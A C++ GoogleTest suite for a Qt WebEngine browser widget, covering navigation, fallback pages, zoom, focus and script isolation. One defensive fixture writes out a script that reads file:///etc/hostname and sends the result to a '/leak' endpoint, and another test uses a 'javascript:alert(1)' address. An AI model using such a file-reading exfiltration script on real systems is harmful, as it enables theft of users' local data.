#include "platform/web/WebBrowser.h"
#include "tests/support/LocalHttpServer.h"
#include "tests/support/ProgramFolder.h"
#include "tests/support/QtPrinters.h"

#include <QFile>
#include <QImage>
#include <QLineEdit>
#include <QTest>
#include <QVBoxLayout>
#include <gtest/gtest.h>
#include <memory>

namespace {

QByteArray Page(const char* title, const char* body = "text")
{
    return QByteArrayLiteral("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>") + title +
        QByteArrayLiteral("</title></head><body>") + body + QByteArrayLiteral("</body></html>");
}

// A browser in a shown window of its own, with the readiness changes it reported.
class Browser : public testing::Test {
protected:
    Browser()
    {
        window_.resize(640, 480);
        auto* layout = new QVBoxLayout(&window_);
        edit_ = new QLineEdit(&window_);
        layout->addWidget(edit_);
        browser_ = new TWebBrowser(&window_);
        layout->addWidget(browser_, 1);
        browser_->OnReadyStateChange = [this] { states_.push_back(browser_->ReadyState()); };
    }

    void Show()
    {
        window_.show();
        ASSERT_TRUE(QTest::qWaitForWindowExposed(&window_));
    }

    // Waits for the end of the current navigation.
    bool WaitComplete(int timeoutMs = 20000)
    {
        return QTest::qWaitFor([this] { return browser_->ReadyState() == READYSTATE_COMPLETE; }, timeoutMs);
    }

    QString Title() const { return browser_->Document() ? browser_->Document()->Title : QStringLiteral("<none>"); }
    QString LocalUrl(const QString& name) const { return QUrl::fromLocalFile(program_.FilePath(name)).toString(); }

    TempProgramFolder program_;
    QWidget window_;
    QLineEdit* edit_ = nullptr;
    TWebBrowser* browser_ = nullptr;
    std::vector<TReadyState> states_;
};

// True when the process has the library mapped.
bool Mapped(const char* library)
{
    QFile maps(QStringLiteral("/proc/self/maps"));
    return maps.open(QIODevice::ReadOnly) && maps.readAll().contains(library);
}

} // namespace

// First in this file: the engine is loaded nowhere before in the process (CTest runs every
// test in a process of its own).
TEST_F(Browser, TheEngineLibrariesLoadOnlyWhenTheFirstPageIsShown)
{
    ASSERT_FALSE(Mapped("libQt6WebEngineCore")) << "the engine came with the program";
    program_.Write(QStringLiteral("help/guide.html"), Page("local guide"));
    browser_->Navigate(program_.FilePath(QStringLiteral("help/guide.html")));
    EXPECT_FALSE(Mapped("libQt6WebEngineCore"));
    Show();
    ASSERT_TRUE(WaitComplete());
    EXPECT_EQ(Title(), QStringLiteral("local guide"));
    EXPECT_TRUE(Mapped("moriva_web_engine.so"));
    EXPECT_TRUE(Mapped("libQt6WebEngineCore"));
}

TEST_F(Browser, ShowsAPageOfTheSiteAndSaysWhereItIs)
{
    TLocalHttpServer site({200, Page("remote guide")});
    EXPECT_EQ(browser_->ReadyState(), READYSTATE_UNINITIALIZED);
    EXPECT_EQ(browser_->LocationURL(), QString());
    Show();
    browser_->Navigate(site.Address(QStringLiteral("/help/guide.html")));
    EXPECT_EQ(browser_->ReadyState(), READYSTATE_LOADING);
    ASSERT_TRUE(WaitComplete());
    EXPECT_EQ(Title(), QStringLiteral("remote guide"));
    EXPECT_EQ(browser_->LocationURL(), QStringLiteral("http://") + site.Address(QStringLiteral("/help/guide.html")));
    EXPECT_EQ(browser_->Document()->Url.toString(), browser_->LocationURL());
    EXPECT_EQ(states_, (std::vector<TReadyState>{READYSTATE_LOADING, READYSTATE_COMPLETE}));
}

TEST_F(Browser, TheEngineStartsOnlyOnceTheBrowserHasBeenShown)
{
    program_.Write(QStringLiteral("help/guide.html"), Page("local guide"));
    browser_->Navigate(program_.FilePath(QStringLiteral("help/guide.html")));
    QTest::qWait(400);
    EXPECT_EQ(browser_->ReadyState(), READYSTATE_LOADING);
    EXPECT_EQ(browser_->LocationURL(), LocalUrl(QStringLiteral("help/guide.html")));
    EXPECT_EQ(browser_->Document(), nullptr);
    Show();
    ASSERT_TRUE(WaitComplete());
    EXPECT_EQ(Title(), QStringLiteral("local guide"));
}

TEST_F(Browser, AFailedNavigationShowsTheFallbackInsteadOfTheErrorPage)
{
    program_.Write(QStringLiteral("help/flow.html"), Page("local flow"));
    const QString fallback = program_.FilePath(QStringLiteral("help/flow.html"));
    TLocalHttpServer missing({404, Page("Not Found")});
    TLocalHttpServer failing({500, Page("Server Error")});
    TClosedLocalPort closed;
    const QString failures[] = {
        missing.Address(QStringLiteral("/help/flow.html")),                 // error status
        failing.Address(QStringLiteral("/help/flow.html")),                 // error status
        QStringLiteral("127.0.0.1:%1/help/flow.html").arg(closed.Port()),   // no server
        QStringLiteral("help.moriva.invalid/help/flow.html"),               // unknown host
        program_.FilePath(QStringLiteral("help/missing.html")),              // missing file
    };
    Show();
    for (const QString& address : failures) {
        SCOPED_TRACE(address.toStdString());
        browser_->Navigate(address, fallback);
        ASSERT_TRUE(WaitComplete());
        EXPECT_EQ(Title(), QStringLiteral("local flow"));
        EXPECT_EQ(browser_->LocationURL(), LocalUrl(QStringLiteral("help/flow.html")));
    }
}

TEST_F(Browser, ASecondFailureIsLeftAsItIs)
{
    TClosedLocalPort closed;
    Show();
    QList<QUrl> failed;
    browser_->OnLoadFailed = [&](const QUrl& url, const QString& reason) {
        failed << url;
        EXPECT_FALSE(reason.isEmpty());
    };
    browser_->Navigate(QStringLiteral("127.0.0.1:%1/help/info.html").arg(closed.Port()),
                       program_.FilePath(QStringLiteral("help/info.html")));
    ASSERT_TRUE(WaitComplete());
    EXPECT_EQ(browser_->Document(), nullptr);
    EXPECT_EQ(browser_->LocationURL(), LocalUrl(QStringLiteral("help/info.html")));
    // Reported once, for the navigation that failed for good.
    EXPECT_EQ(failed, QList<QUrl>{QUrl(LocalUrl(QStringLiteral("help/info.html")))});
    // The error page stays: nothing more is loaded.
    states_.clear();
    QTest::qWait(500);
    EXPECT_TRUE(states_.empty());
    EXPECT_EQ(browser_->ReadyState(), READYSTATE_COMPLETE);
}

TEST_F(Browser, AnAddressOfAFileToSaveIsAFailedNavigation)
{
    program_.Write(QStringLiteral("help/guide.html"), Page("local guide"));
    program_.Write(QStringLiteral("help/pack.zip"), QByteArray("PK\x03\x04", 4) + QByteArray(2000, '\x9c'));
    Show();
    QList<QUrl> failed;
    browser_->OnLoadFailed = [&](const QUrl& url, const QString&) { failed << url; };
    browser_->Navigate(program_.FilePath(QStringLiteral("help/pack.zip")), program_.FilePath(QStringLiteral("help/guide.html")));
    ASSERT_TRUE(QTest::qWaitFor([&] { return browser_->ReadyState() == READYSTATE_COMPLETE && browser_->Document(); }, 20000))
        << browser_->LocationURL().toStdString();
    EXPECT_EQ(Title(), QStringLiteral("local guide"));
    EXPECT_TRUE(failed.isEmpty());

    // Without a fallback: loading ends, no page, one report.
    browser_->Navigate(program_.FilePath(QStringLiteral("help/pack.zip")));
    ASSERT_TRUE(QTest::qWaitFor([&] { return !failed.isEmpty(); }, 20000));
    EXPECT_EQ(browser_->ReadyState(), READYSTATE_COMPLETE);
    EXPECT_EQ(browser_->Document(), nullptr);
    EXPECT_EQ(failed, QList<QUrl>{QUrl(LocalUrl(QStringLiteral("help/pack.zip")))});
}

TEST_F(Browser, AFallbackServesOnlyItsOwnNavigation)
{
    program_.Write(QStringLiteral("help/guide.html"), Page("local guide"));
    TLocalHttpServer site({200, Page("remote guide")});
    TClosedLocalPort closed;
    Show();
    browser_->Navigate(site.Address(QStringLiteral("/help/guide.html")), program_.FilePath(QStringLiteral("help/guide.html")));
    ASSERT_TRUE(WaitComplete());
    EXPECT_EQ(Title(), QStringLiteral("remote guide"));

    const QString unreachable = QStringLiteral("127.0.0.1:%1/help/guide.html").arg(closed.Port());
    browser_->Navigate(unreachable);
    ASSERT_TRUE(WaitComplete());
    EXPECT_EQ(browser_->Document(), nullptr);
    EXPECT_EQ(browser_->LocationURL(), QStringLiteral("http://") + unreachable);
}

TEST_F(Browser, ANewNavigationReplacesOneStillLoading)
{
    program_.Write(QStringLiteral("help/guide.html"), Page("local guide"));
    program_.Write(QStringLiteral("help/info.html"), Page("local info"));
    TLocalHttpServer silent({200, Page("never"), true});
    Show();
    browser_->Navigate(silent.Address(QStringLiteral("/help/guide.html")), program_.FilePath(QStringLiteral("help/guide.html")));
    QTest::qWait(300);
    EXPECT_EQ(browser_->ReadyState(), READYSTATE_LOADING);
    browser_->Navigate(program_.FilePath(QStringLiteral("help/info.html")));
    ASSERT_TRUE(WaitComplete());
    EXPECT_EQ(Title(), QStringLiteral("local info"));
    // The abandoned navigation does not bring its fallback back.
    QTest::qWait(500);
    EXPECT_EQ(Title(), QStringLiteral("local info"));
}

TEST_F(Browser, ABadAddressRaisesAndChangesNothing)
{
    program_.Write(QStringLiteral("help/guide.html"), Page("local guide"));
    Show();
    browser_->Navigate(program_.FilePath(QStringLiteral("help/guide.html")));
    ASSERT_TRUE(WaitComplete());
    EXPECT_THROW(browser_->Navigate(QStringLiteral("javascript:alert(1)")), EWebBrowser);
    EXPECT_THROW(browser_->Navigate(QStringLiteral("help.moriva.invalid/x"), QStringLiteral("ftp://x/y")), EWebBrowser);
    EXPECT_EQ(browser_->ReadyState(), READYSTATE_COMPLETE);
    EXPECT_EQ(Title(), QStringLiteral("local guide"));
}

namespace {

// Width in pixels of the dark marks in the image.
int InkWidth(const QImage& image)
{
    int left = image.width(), right = -1;
    for (int y = 0; y < image.height(); ++y)
        for (int x = 0; x < image.width(); ++x)
            if (qGray(image.pixel(x, y)) < 128) {
                left = std::min(left, x);
                right = std::max(right, x);
            }
    return right < left ? 0 : right - left + 1;
}

} // namespace

TEST_F(Browser, TextSizeTwoIsThePagesNormalSize)
{
    program_.Write(QStringLiteral("text.html"), Page("text", "<p style=\"margin:0\">MMMMMMMMMM</p>"));
    Show();
    browser_->Navigate(program_.FilePath(QStringLiteral("text.html")));
    ASSERT_TRUE(WaitComplete());
    auto inkWidth = [this] { return InkWidth(browser_->grab().toImage()); };
    ASSERT_TRUE(QTest::qWaitFor([&] { return inkWidth() > 0; }, 5000));
    int shown = inkWidth();
    // The page is redrawn some time after the change.
    auto widthAt = [&](int size) {
        browser_->ExecWB(OLECMDID_ZOOM, OLECMDEXECOPT_DONTPROMPTUSER, size);
        const int before = shown;
        EXPECT_TRUE(QTest::qWaitFor([&] { return (shown = inkWidth()) != before; }, 5000));
        return shown;
    };
    const int largest = widthAt(4);
    const int normal = widthAt(2);
    const int smallest = widthAt(0);
    EXPECT_GT(largest, normal);
    EXPECT_GT(normal, smallest);
    EXPECT_NEAR(largest, normal * 1.5, normal * 0.15);

    QVariant size;
    browser_->ExecWB(OLECMDID_ZOOM, OLECMDEXECOPT_DONTPROMPTUSER, QVariant(), &size);
    EXPECT_EQ(size.toInt(), 0);
    EXPECT_THROW(browser_->ExecWB(OLECMDID_ZOOM, OLECMDEXECOPT_DONTPROMPTUSER, 5), EWebBrowser);
    EXPECT_THROW(browser_->ExecWB(OLECMDID_ZOOM, OLECMDEXECOPT_DONTPROMPTUSER, -1), EWebBrowser);
    EXPECT_THROW(browser_->ExecWB(22, OLECMDEXECOPT_DONTPROMPTUSER, 2), EWebBrowser);
    browser_->ExecWB(OLECMDID_ZOOM, OLECMDEXECOPT_DONTPROMPTUSER, QVariant(), &size);
    EXPECT_EQ(size.toInt(), 0);
}

TEST_F(Browser, IsNoTabStopButTakesTheFocusWhenGivenIt)
{
    program_.Write(QStringLiteral("text.html"), Page("text", "<a href=\"#x\">link</a>"));
    Show();
    window_.activateWindow();
    browser_->Navigate(program_.FilePath(QStringLiteral("text.html")));
    ASSERT_TRUE(WaitComplete());
    edit_->setFocus();
    for (int i = 0; i < 3; ++i) {
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
        EXPECT_FALSE(browser_->Focused());
    }
    browser_->SetFocus();
    EXPECT_TRUE(browser_->Focused());
    EXPECT_FALSE(edit_->hasFocus());
}

namespace {

// A page whose script, if it ran, would name itself "script ran", then read a local file
// and send what it read to the server at port.
QByteArray ReadingPage(quint16 port)
{
    const QByteArray leak = QByteArrayLiteral("http://127.0.0.1:") + QByteArray::number(port) + QByteArrayLiteral("/leak");
    const QByteArray script =
        QByteArrayLiteral("<script>document.title = 'script ran';"
                          "fetch('file:///etc/hostname').then(function (r) { return r.text(); })"
                          ".then(function (t) { document.title = 'read ' + t; new Image().src = '") +
        leak + QByteArrayLiteral("?' + t; });"
                                 "var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/hostname', false);"
                                 "try { x.send(); document.title = 'read ' + x.responseText; } catch (e) {}"
                                 "fetch('") +
        leak + QByteArrayLiteral("');</script>");
    return Page("untouched", script.constData());
}

} // namespace

TEST_F(Browser, ALocalPageReadsNoLocalFileAndReachesNoServerFromAScript)
{
    TLocalHttpServer server;
    server.Route("/page.html", {200, Page("remote", "<script>document.title = 'remote script ran';</script>")});
    program_.Write(QStringLiteral("help/reader.html"), ReadingPage(server.Port()));
    Show();
    // Also after a page of the web, whose scripts run.
    browser_->Navigate(server.Address(QStringLiteral("/page.html")));
    ASSERT_TRUE(WaitComplete());
    ASSERT_TRUE(QTest::qWaitFor([this] { return Title() == QStringLiteral("remote script ran"); }, 5000));
    browser_->Navigate(program_.FilePath(QStringLiteral("help/reader.html")));
    ASSERT_TRUE(WaitComplete());
    QTest::qWait(1000);
    EXPECT_EQ(Title(), QStringLiteral("untouched"));
    for (const QByteArray& path : server.RequestedPaths())
        EXPECT_FALSE(path.startsWith("/leak")) << path.toStdString();
}

TEST_F(Browser, ALocalPageStillShowsWithItsLocalStyleSheet)
{
    program_.Write(QStringLiteral("help/look.css"), "body { background: #27467a; }");
    program_.Write(QStringLiteral("help/styled.html"),
                   "<!DOCTYPE html><html><head><title>styled</title>"
                   "<link rel=\"stylesheet\" href=\"look.css\"></head><body>x</body></html>");
    Show();
    browser_->Navigate(program_.FilePath(QStringLiteral("help/styled.html")));
    ASSERT_TRUE(WaitComplete());
    EXPECT_EQ(Title(), QStringLiteral("styled"));
    const auto corner = [this] { return browser_->grab().toImage().pixelColor(browser_->width() - 20, browser_->height() - 20); };
    EXPECT_TRUE(QTest::qWaitFor([&] { return corner() == QColor(0x27, 0x46, 0x7a); }, 5000)) << corner().name().toStdString();
}

TEST_F(Browser, AFailedNavigationNeverShowsTheEnginesErrorPage)
{
    TClosedLocalPort closed;
    Show();
    browser_->Navigate(QStringLiteral("127.0.0.1:%1/help/info.html").arg(closed.Port()));
    ASSERT_TRUE(WaitComplete());
    EXPECT_EQ(browser_->Document(), nullptr);
    // Nothing is drawn: no page, no error text.
    QTest::qWait(500);
    EXPECT_EQ(InkWidth(browser_->grab().toImage()), 0);
}
